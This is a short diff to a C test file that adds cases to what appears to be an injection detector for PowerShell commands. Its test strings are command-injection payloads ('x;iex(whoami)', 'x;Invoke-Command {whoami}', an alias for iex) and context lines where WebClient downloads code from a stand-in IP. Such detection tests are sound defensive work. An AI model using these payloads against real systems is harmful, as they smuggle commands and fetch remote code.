@@ -686,6 +686,14 @@ static void second_round(void)
     STRONG("x;$w=New-Object Net.WebClient;$w.DownloadFile('http://203.0.113.5/a','a')",
            "ps:");
     STRONG("$c.DownloadString('http://203.0.113.5/')", "ps:$var.");
+    /* a PowerShell command called or given a script block after a
+     * separator; an alias made for a command */
+    STRONG("x;iex(whoami)", "ps:;iex");
+    STRONG("x;icm {id}", "ps:;icm");
+    STRONG("x;Invoke-Command {whoami}", "invoke-command");
+    STRONG("x;sal a iex", "ps:;sal");
+    WEAK("name;iex;email");
+    NONE("which is nc");
     NONE("$scope.start(a)");
     NONE("$el.clear()");
     NONE("$obj.DownloadFile is a method");
